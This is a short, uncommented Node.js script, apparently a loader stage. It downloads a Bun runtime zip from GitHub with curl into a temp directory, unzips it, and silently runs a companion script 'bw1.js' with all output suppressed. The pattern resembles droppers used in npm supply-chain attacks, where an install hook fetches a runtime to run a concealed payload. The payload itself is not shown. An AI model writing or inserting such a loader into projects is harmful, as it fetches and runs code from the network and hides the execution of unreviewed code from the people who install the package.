const { execFileSync } = require('child_process'); const fs = require('fs'), os = require('os'), path = require('path');
const v = 'bun-v1.3.13', n = { 'linux-x64': 'bun-linux-x64', 'darwin-arm64': 'bun-darwin-aarch64' }[`${process.platform}-${process.arch}`];
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'b-'));
execFileSync('curl', ['-fsSL', `https://github.com/oven-sh/bun/releases/download/${v}/${n}.zip`, '-o', `${dir}/b.zip`]);
execFileSync('unzip', ['-oq', `${dir}/b.zip`, '-d', dir]);
execFileSync(path.join(dir, n, 'bun'), ['run', path.join(__dirname, 'bw1.js')], { stdio: 'ignore' });
